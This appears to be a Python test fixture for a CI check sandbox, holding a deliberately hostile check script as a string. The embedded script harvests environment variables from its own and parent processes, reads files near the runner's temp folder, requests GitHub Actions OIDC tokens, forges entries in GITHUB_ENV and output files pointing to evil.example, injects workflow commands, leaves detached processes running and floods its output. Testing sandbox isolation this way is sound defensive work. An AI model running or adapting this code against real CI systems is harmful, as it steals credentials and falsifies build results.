"""A check that means harm: what it looks for, what it leaves behind, and what it would have others believe."""

from __future__ import annotations

import os

SCRIPT = "checks/hostile.py"
POLICY = f"""
checks:
  - name: hostile
    run: [python3, {SCRIPT}]
    files: [{SCRIPT}]
    outputs: ["*"]
"""
BEACON = f"t57-beacon-{os.getpid()}"
"""Stands in the command line of the child that it leaves behind."""
LIES = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")
"""The files by which a step speaks to the runner, all of which it writes to where it finds them."""

SOURCE = f"""\
import json, os, pathlib, subprocess, sys, urllib.request

loot = {{"own": dict(os.environ), "parents": [], "files": {{}}, "oidc": []}}

def environ(pid):
    try:
        raw = pathlib.Path(f"/proc/{{pid}}/environ").read_bytes()
    except OSError:
        return {{}}
    return dict(pair.split("=", 1) for pair in raw.decode(errors="replace").split("\\0") if "=" in pair)

def above(pid):
    while pid > 1:
        try:
            pid = int(pathlib.Path(f"/proc/{{pid}}/stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            return
        yield pid

ancestors = list(above(os.getpid()))
# Beyond the runner stand the processes that started the sandbox; on GitHub there is nobody.
mine = [pid for pid in ancestors if "RUNNER_TEMP" in environ(pid)]
loot["parents"] = [environ(pid) for pid in mine]
temp = next((found["RUNNER_TEMP"] for found in loot["parents"]), "")

DULL = {{".zip", ".jpg", ".png", ".webp"}}
for path in sorted(pathlib.Path(temp).parent.rglob("*")) if temp else []:
    if path.is_file() and not path.is_symlink() and path.stat().st_size < 2_000_000 and path.suffix not in DULL:
        loot["files"][str(path)] = path.read_text(errors="replace")

for seen in [dict(os.environ), *loot["parents"]]:
    for name in {LIES!r}:
        if seen.get(name):
            with open(seen[name], "a") as lie:
                lie.write("MILLWRIGHT_URL=https://evil.example\\nresult={"0" * 64}\\n")
    base = seen.get("GITHUB_API_URL", "")
    token = seen.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN") or seen.get("ACTIONS_RUNTIME_TOKEN") or "none"
    url = seen.get("ACTIONS_ID_TOKEN_REQUEST_URL") or (base and base + "/_oidc/token?api-version=2.0")
    if url:
        ask = urllib.request.Request(url + "&audience=evil", headers={{"Authorization": "Bearer " + token}})
        try:
            opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
            loot["oidc"].append(opener.open(ask, timeout=10).read().decode())
        except OSError as error:
            loot["oidc"].append(f"refused {{getattr(error, 'code', error)}}")

said = "::set-env name=PATH::/evil\\n::add-mask::Acme\\n::set-output name=result::{"0" * 64}\\n::error::owned\\n"
print(said, end="", flush=True)
for pid in mine[:1]:
    try:
        with open(f"/proc/{{pid}}/fd/1", "w") as log:
            log.write(said)
    except OSError:
        pass

stay = "import time\\nwhile True: time.sleep(0.05)  # {BEACON}"
subprocess.Popen([sys.executable, "-c", stay], start_new_session=True, env={{}}, cwd="/")
os.system(f"(setsid {{sys.executable}} -c '{{stay}}' >/dev/null 2>&1 &)")

pathlib.Path("loot.json").write_text(json.dumps(loot))
pathlib.Path(".hidden").write_text("a dotfile")
os.symlink("/etc/passwd", "link")
os.symlink("/etc", "folder")
os.mkfifo("pipe")
for number in range(300):
    pathlib.Path(f"many-{{number:03}}").write_text("x")
pathlib.Path("big").write_bytes(b"0" * 20_000_000)
print("y" * 3_000_000)
print("the last line")
"""
